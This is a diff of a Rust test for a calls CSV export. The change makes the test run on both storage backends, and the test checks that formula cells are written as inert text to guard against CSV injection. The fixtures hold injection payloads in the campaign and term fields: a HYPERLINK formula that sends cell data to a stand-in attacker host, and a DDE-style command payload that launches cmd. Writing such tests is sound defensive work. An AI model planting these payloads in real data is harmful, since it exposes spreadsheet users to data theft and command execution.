@@ -1,6 +1,7 @@
 //! The calls CSV export neutralises formula cells (OWASP "CSV Injection"):
 //! a spoofed caller id from the PBX and a crafted campaign and term from a
-//! visitor's landing URL come out as text a spreadsheet does not evaluate.
+//! visitor's landing URL come out as text a spreadsheet does not evaluate,
+//! on both backends (the CSV is written from what each store reads back).
 
 use crate::common::*;
 use crate::pbx_support::{GENERIC_KEY, GENERIC_SECRET, generic_headers};
@@ -8,11 +9,15 @@ use serde_json::json;
 
 const TOKEN: &str = "admin-token-for-tests-0123";
 
-#[test]
-fn formula_cells_in_the_calls_csv_are_written_as_text() {
+crate::on_both_backends! {
+    formula_cells_in_the_calls_csv_are_written_as_text => formula_cells_in_the_calls_csv_are_written_as_text_on;
+}
+
+fn formula_cells_in_the_calls_csv_are_written_as_text_on(backend: Backend) {
     let server = format!("admin_token = \"{TOKEN}\"");
     let site = format!("pbx_secrets.generic = \"{GENERIC_SECRET}\"");
-    let h = start(&server, &site, "");
+    let test = "formula_cells_in_the_calls_csv_are_written_as_text";
+    let Some(h) = start_on(backend, test, &server, &site, "") else { return };
     let mut touch = paid();
     touch["campaign"] = json!("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
     touch["term"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
